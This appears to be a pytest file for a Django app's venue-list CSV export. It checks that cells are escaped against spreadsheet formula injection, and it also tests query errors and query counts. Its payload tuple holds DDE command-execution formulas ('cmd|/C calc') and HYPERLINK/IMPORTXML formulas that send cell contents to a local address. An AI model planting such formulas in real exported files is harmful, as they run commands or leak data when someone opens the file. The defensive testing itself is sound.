"""A list as a file: the page's search, nothing that a spreadsheet would run."""

import csv
from io import StringIO

import pytest

from geoapp.publishing.table_cells import plain_text
from geoapp.web.map.results_csv import COLUMNS, csv_text
from tests.safety.payloads import EVERY
from tests.world import record, venue, venues

pytestmark = pytest.mark.django_db

RUN = (
    '=cmd|" /C calc"!A0',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  @x",
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
    "=IMPORTXML(CONCAT(\"http://127.0.0.1:9/\",A1),'//a')",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
)
PLAIN = ("'s-Hertogenbosch", "Clay, wood", 'The "Barn"', "two\nlines", "a=b", "", "é")


def read_back(text: str) -> str:
    """Return what a cell meant: one ' less where one was put before it."""
    return text[1:] if text.startswith("'") and plain_text(text) != text else text


def rows(client, **query):
    answer = client.get("/list.csv", query)
    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/csv; charset=utf-8")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(StringIO(answer.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", [*RUN, *PLAIN, *EVERY])
def test_no_text_is_run_and_each_is_read_back(text):
    row = dict.fromkeys(COLUMNS, "") | {"name": text, "longitude": -0.05}
    (_head, cells) = csv.reader(StringIO(csv_text([row]).removeprefix("\ufeff")))
    said = dict(zip(COLUMNS, cells, strict=True))
    assert said["name"][:1] not in tuple("=+-@\t\r\n\uff1d")
    assert read_back(said["name"]) == text
    assert said["longitude"] == "-0.05"  # a number, and not a text


def test_it_is_the_list_of_the_page_and_all_of_it(client, vocabulary):
    venues(*(record(f"Pottery {n:02}", offers=[("pottery", "use")]) for n in range(30)))
    venue("Forge", offers=[("blacksmithing", "use")])
    asked = {"craft": "pottery", "near": "-0.055,51.545", "sort": "name"}
    found = rows(client, **asked)
    assert [row["name"] for row in found] == [f"Pottery {n:02}" for n in range(30)]
    shown = client.get("/", asked)
    assert f"/list.csv?{shown.context['next_query']}".replace("&", "&amp;") in (
        shown.content.decode()
    )
    assert shown.context["total"].count == 30


def test_its_head_stands_where_nothing_is_found(client, vocabulary):
    assert rows(client, craft="pottery") == []


@pytest.mark.parametrize(
    ("name", "value"), [("near", "1,200"), ("craft", "nothing"), ("where", "Xqzzy")]
)
def test_what_is_not_understood_gives_no_other_list(client, vocabulary, name, value):
    answer = client.get("/list.csv", {name: value})
    assert answer.status_code == 400
    assert answer.content.decode().startswith(f"{name}: ")


def test_it_takes_few_statements(client, vocabulary, django_assert_max_num_queries):
    venue("Clay House", offers=[("pottery", "use")], hours="Mo-Su 10:00-20:00")
    with django_assert_max_num_queries(6):
        rows(client, q="pottery", open_at="now", near="-0.055,51.545")
